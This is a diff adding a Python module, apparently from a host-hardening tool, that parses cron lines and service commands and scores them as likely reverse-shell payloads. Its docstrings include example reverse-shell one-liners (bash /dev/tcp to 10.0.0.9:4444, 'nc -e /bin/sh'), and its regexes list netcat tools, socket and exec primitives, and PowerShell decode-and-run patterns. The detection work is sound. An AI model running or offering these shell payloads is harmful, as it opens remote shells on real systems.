@@ -1,0 +1,260 @@
+"""What a command line, a script line or a web page runs, judged as a reverse-shell payload (pure).
+
+Persistence (:mod:`hardening.hunt.persistence`) reads text, not processes: a cron line, an
+``ExecStart=``, a ``command=`` of an authorized key. This module splits such text into simple
+commands the way a POSIX shell would (words, pipelines, ``;``/``&&``/``||`` lists, ``sh -c`` and
+wrappers such as ``nohup`` or ``setsid``) and judges each with the live hunt's own knowledge
+(:mod:`hardening.hunt.score`: what a netcat-like's exec option is, per tool; what inline code an
+interpreter runs), so a ``nc -vne /bin/sh`` in a crontab is read exactly as the same process
+would be. Base64 payloads are decoded here (bounded) and their text judged too. Nothing runs.
+
+Example::
+
+    >>> [(t.value, why) for t, why in judge("* * * * * root bash -c 'bash -i >& /dev/tcp/10.0.0.9/4444 0>&1'")][:1]
+    [('high', 'opens /dev/tcp/10.0.0.9/4444 (bash network redirection)')]
+"""
+
+from __future__ import annotations
+
+import base64
+import binascii
+import re
+import shlex
+
+from hardening.hunt.model import Process, Tier
+from hardening.hunt.score import _UGLY_DIRS, _base, _inline_code, exec_option, kind, tool
+
+MAX_TEXT = 16384  # characters of one text judged
+MAX_DEPTH = 3  # sh -c / base64 nesting followed
+MAX_B64 = 8  # base64 candidates decoded per text
+MAX_SEGMENTS = 64  # simple commands judged per text
+
+_DEV_NET = re.compile(r"/dev/(tcp|udp)/[^/\s\"'`;|&<>]+/\d{1,5}")
+# Code that opens a socket, and code that hands it a program (an interpreter one-liner, a web shell).
+_SOCKET = re.compile(
+    r"socket\.socket|socket\(|fsockopen|TCPSocket|IO::Socket|Socket\.tcp|net\.connect|createConnection|"
+    r"new\s+Socket\b|Net\.Sockets\.TCPClient|socket\.connect|stream_socket_client|/inet[46]?/tcp/|"
+    r"require\s*\(?\s*['\"](?:socket|net)['\"]",
+    re.IGNORECASE,
+)
+_EXECS = re.compile(
+    r"dup2|pty\.spawn|subprocess|child_process|spawn\(|exec\(|execv|system\(|popen|proc_open|"
+    r"/bin/(?:ba|da|z|k)?sh\b|cmd\.exe|\bexec\s+\d*[<>]|sh\s+-i|IO\.popen|Process\.Start|os\.execute",
+    re.IGNORECASE,
+)
+_PS_B64_EXEC = re.compile(r"FromBase64String", re.IGNORECASE)
+_PS_IEX = re.compile(r"\b(IEX|Invoke-Expression)\b|\|\s*iex\b", re.IGNORECASE)
+_TCPCLIENT = re.compile(r"Net\.Sockets\.TCPClient", re.IGNORECASE)
+_B64 = re.compile(r"[A-Za-z0-9+/]{20,}={0,2}")
+_FD_REDIRECT = re.compile(r"(?:(?<=\s)|^)\d+(?=[<>])")
+_ASSIGN = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")
+_SEPARATORS = frozenset({";", "&&", "||", "&", "(", ")", "\n", "{", "}", "|&"})
+_REDIRECTS = re.compile(r"^\d*(?:[<>]&?|>>|<>|&>>?)$")
+# Programs that run their arguments as a command (nohup sh -c ..., setsid nc ...).
+_WRAPPERS = frozenset(
+    {
+        "exec", "nohup", "setsid", "sudo", "env", "nice", "ionice", "stdbuf", "chrt", "taskset",
+        "timeout", "command", "builtin", "time", "doas", "runuser", "chroot", "xargs", "busybox",
+    }
+)  # fmt: skip
+_WRAPPER_ARG = {"timeout": 1, "nice": 0, "chrt": 1, "taskset": 1, "runuser": 0, "chroot": 1}
+_DOWNLOADERS = frozenset({"curl", "wget", "fetch", "tftp", "ftp"})
+_B64_TOOLS = frozenset({"base64", "openssl", "base32", "xxd", "uudecode"})
+UNUSUAL = re.compile(
+    r"\b(?:nc|ncat|netcat|socat|telnet|curl|wget|base64|python[0-9.]*|perl|ruby|php[0-9.]*|lua|node|nodejs|"
+    r"powershell|pwsh|mkfifo|mknod|nohup|setsid|disown|chmod\s+[+0-7]*[x7])\b|(?:^|\s)/(?:tmp|var/tmp|dev/shm)/"
+)
+
+
+def _words(text: str) -> list[str]:
+    """Shell words and operators of ``text`` (unbalanced quotes: whitespace split, never an error)."""
+    text = _FD_REDIRECT.sub("", text[:MAX_TEXT])  # "2>&1": the fd number goes, the operator stays
+    lex = shlex.shlex(text, posix=True, punctuation_chars=";&|()<>")
+    lex.whitespace_split = True
+    lex.commenters = ""
+    try:
+        return list(lex)
+    except ValueError:
+        return text[:MAX_TEXT].split()
+
+
+def pipelines(text: str) -> list[list[list[str]]]:
+    """``text`` as a list of pipelines, each a list of simple commands (argv, redirections dropped).
+
+    >>> pipelines("echo aGk= | base64 -d | sh; nohup /tmp/x >/dev/null 2>&1 &")
+    [[['echo', 'aGk='], ['base64', '-d'], ['sh']], [['nohup', '/tmp/x']]]
+    """
+    out: list[list[list[str]]] = []
+    pipe: list[list[str]] = []
+    cmd: list[str] = []
+    skip = False
+    for w in _words(text):
+        if skip:
+            skip = False
+            continue
+        if w in ("|", "|&"):
+            pipe.append(cmd)
+            cmd = []
+        elif w in _SEPARATORS or set(w) <= set(";&|()"):
+            if cmd:
+                pipe.append(cmd)
+            if pipe:
+                out.append(pipe)
+            pipe, cmd = [], []
+        elif _REDIRECTS.match(w):
+            skip = True  # its target
+        elif w.startswith((">", "<")) or re.match(r"^\d+[<>]", w):
+            continue
+        else:
+            cmd.append(w)
+    if cmd:
+        pipe.append(cmd)
+    if pipe:
+        out.append(pipe)
+    return [[c for c in p if c] for p in out if any(p)]
+
+
+def command_argv(argv: list[str]) -> list[str]:
+    """The program a simple command runs, with its arguments: environment assignments and wrappers
+    (``nohup``, ``setsid``, ``env X=1``, ``timeout 5``, ``exec``) skipped.
+
+    >>> command_argv(["X=1", "nohup", "setsid", "timeout", "5", "nc", "-e", "/bin/sh", "h", "1"])
+    ['nc', '-e', '/bin/sh', 'h', '1']
+    """
+    i = 0
+    while i < len(argv):
+        w = argv[i]
+        base = _base(w)
+        if _ASSIGN.match(w):
+            i += 1
+        elif base in _WRAPPERS:
+            i += 1 + _WRAPPER_ARG.get(base, 0)
+            while i < len(argv) and argv[i].startswith("-") and base not in ("exec", "command", "busybox"):
+                i += 1
+        else:
+            return argv[i:]
+    return []
+
+
+def _proc(argv: list[str]) -> Process:
+    exe = argv[0] if argv[0].startswith("/") else ""
+    return Process(pid=0, ppid=0, comm=_base(argv[0])[:15], exe=exe, argv=tuple(argv))
+
+
+def _shell_code(argv: list[str]) -> str | None:
+    """The command string of ``sh -c STRING`` (clusters like ``-lc`` too)."""
+    for i, a in enumerate(argv[1:], start=1):
+        if a.startswith("-") and not a.startswith("--") and "c" in a[1:] and i + 1 < len(argv):
+            return argv[i + 1]
+    return None
+
+
+def _decodes(text: str) -> list[str]:
+    """Printable texts that base64 candidates in ``text`` decode to (UTF-8, or UTF-16LE as
+    PowerShell's -EncodedCommand), at most :data:`MAX_B64`."""
+    out = []
+    for m in list(_B64.finditer(text[:MAX_TEXT]))[:MAX_B64]:
+        raw = m.group(0)
+        try:
+            data = base64.b64decode(raw + "=" * (-len(raw) % 4), validate=True)
+        except (binascii.Error, ValueError):
+            continue
+        for enc in ("utf-16-le", "utf-8") if data[1:2] == b"\0" else ("utf-8",):
+            try:
+                decoded = data.decode(enc)
+            except UnicodeDecodeError:
+                continue
+            printable = sum(c.isprintable() or c in "\n\r\t" for c in decoded)
+            if decoded and printable >= 0.9 * len(decoded):
+                out.append(decoded)
+                break
+    return out
+
+
+def _excerpt(text: str, limit: int = 120) -> str:
+    text = " ".join(text.split())
+    return text if len(text) <= limit else text[: limit - 3] + "..."
+
+
+def _judge_pipeline(pipe: list[list[str]], depth: int, out: list[tuple[Tier, str]]) -> None:
+    argvs = [command_argv(c) for c in pipe]
+    kinds = [kind(_proc(a)) if a else "other" for a in argvs]
+    mkfifo = any(a and _base(a[0]) in ("mkfifo", "mknod") for a in argvs)
+    for n, argv in enumerate(argvs):
+        if not argv:
+            continue
+        proc = _proc(argv)
+        k = kinds[n]
+        prog = argv[0]
+        nxt = kinds[n + 1] if n + 1 < len(argvs) else ""
+        prev = argvs[n - 1] if n else []
+        if prog.startswith(_UGLY_DIRS):
+            out.append((Tier.HIGH, f"runs {prog} (a program in a world-writable temporary directory)"))
+        if k == "netcat":
+            flag = exec_option(proc)
+            name = tool(proc) or _base(prog)
+            if flag:
+                out.append((Tier.HIGH, f"netcat-like {name} with exec option {flag!r}"))
+            elif nxt in ("shell", "interpreter"):
+                out.append((Tier.HIGH, f"netcat-like {name} piped into a {nxt}"))
+            elif prev and kinds[n - 1] == "shell":
+                out.append((Tier.HIGH, f"a shell piped into netcat-like {name}"))
+            else:
+                out.append((Tier.MEDIUM, f"runs netcat-like {name}"))
+        elif k == "shell":
+            code = _shell_code(argv)
+            if code is not None and depth < MAX_DEPTH:
+                out.extend(judge(code, depth + 1))
+        elif k == "interpreter":
+            code = _inline_code(proc)
+            if code is not None:
+                if _SOCKET.search(code) and _EXECS.search(code):
+                    out.append((Tier.HIGH, f"{_base(prog)} one-liner opens a socket and runs a program"))
+                elif _SOCKET.search(code):
+                    out.append((Tier.MEDIUM, f"{_base(prog)} one-liner opens a socket"))
+                if depth < MAX_DEPTH:
+                    out.extend(judge(code, depth + 1))
+        base = _base(prog)
+        decodes = base in _B64_TOOLS and any(a in ("-d", "--decode", "-D", "-base64", "-r") for a in argv[1:])
+        if decodes and nxt in ("shell", "interpreter"):
+            out.append((Tier.HIGH, f"a base64-decoded payload piped into a {nxt}"))
+        if base in _DOWNLOADERS and nxt in ("shell", "interpreter"):
+            out.append((Tier.MEDIUM, f"downloads with {base} and pipes it into a {nxt}"))
+        if mkfifo and k in ("netcat", "shell") and len(argvs) > 1:
+            out.append((Tier.HIGH, "a named pipe (mkfifo) joins a shell and a netcat-like"))
+
+
+def judge(text: str, depth: int = 0) -> list[tuple[Tier, str]]:
+    """Why ``text`` (a command line, a script line) looks like a reverse-shell payload, strongest
+    first; [] when nothing does. Decoded base64 is judged too (its reasons say so)."""
+    text = text[:MAX_TEXT]
+    out: list[tuple[Tier, str]] = []
+    m = _DEV_NET.search(text)
+    if m:
+        out.append((Tier.HIGH, f"opens {m.group(0)} (bash network redirection)"))
+    if _TCPCLIENT.search(text):
+        out.append((Tier.HIGH, "PowerShell opens a TCP client (Net.Sockets.TCPClient)"))
+    if _PS_B64_EXEC.search(text) and _PS_IEX.search(text):
+        out.append((Tier.HIGH, "PowerShell decodes base64 and runs it (FromBase64String + Invoke-Expression)"))
+    if _SOCKET.search(text) and _EXECS.search(text) and not out:
+        out.append((Tier.HIGH, "opens a socket and runs a program in one line"))
+    pipes = pipelines(text)
+    if "mkfifo" in text and any(kind(_proc(command_argv(c))) == "netcat" for p in pipes for c in p if command_argv(c)):
+        out.append((Tier.HIGH, "a named pipe (mkfifo) joins a shell and a netcat-like"))
+    for n, pipe in enumerate(pipes):
+        if n >= MAX_SEGMENTS:
+            break
+        _judge_pipeline(pipe, depth, out)
+    if depth < MAX_DEPTH:
+        for decoded in _decodes(text):
+            for tier, why in judge(decoded, depth + 1):
+                out.append((tier, f"base64 payload decodes to {_excerpt(decoded)!r}: {why}"))
+    out.sort(key=lambda r: -r[0].rank)
+    return list(dict.fromkeys(out))
+
+
+def unusual(text: str) -> str:
+    """The first thing ``text`` runs that an ordinary service definition rarely does ("" if none):
+    a netcat-like, an interpreter, a downloader, base64, a hidden or temporary path..."""
+    m = UNUSUAL.search(text[:MAX_TEXT])
+    return m.group(0).strip() if m else ""
